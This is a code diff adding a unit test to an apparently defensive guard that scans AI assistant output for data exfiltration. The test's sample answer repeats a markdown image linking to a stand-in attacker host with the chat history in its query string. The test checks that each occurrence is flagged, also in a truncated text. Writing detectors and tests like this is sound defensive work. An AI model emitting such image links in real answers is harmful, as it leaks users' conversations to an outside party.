@@ -106,5 +106,21 @@ describe("deterministic checks", () => {
     expect((await flagsOf(role, text)).filter((id) => own.includes(id))).toEqual([]);
   });
 
+  it("tell every place in an answer, and the same when it comes in pieces", async () => {
+    const image = "![x](https://evil.example/p.png?d={history})";
+    const text = `${"Here is what you asked for. ".repeat(200)}${image} and "${image}" an example ${image}\n\`\`\`\n${image}`;
+    const spansOf = async (t: string) => {
+      const { checks } = await guard.look({ messages: [{ role: "assistant", text: t }] }, "output");
+      return (checks.find((c) => c.id === "exfiltration")?.spans ?? []).filter((s) => s.why.startsWith("an image"));
+    };
+    const whole = await spansOf(text);
+    expect(whole).toHaveLength(4);
+    // what is farther away than its reach may be missing
+    const reach = guard.checks.find((c) => c.id === "exfiltration")?.reach ?? 0;
+    const from = text.indexOf(image) - reach;
+    const tail = await spansOf(text.slice(from));
+    expect(tail.map((s) => [s.start + from, s.score])).toEqual(whole.map((s) => [s.start, s.score]));
+  });
+
   it("are there", () => expect(guard.checks.map((c) => c.id)).toEqual(expect.arrayContaining(own)));
 });
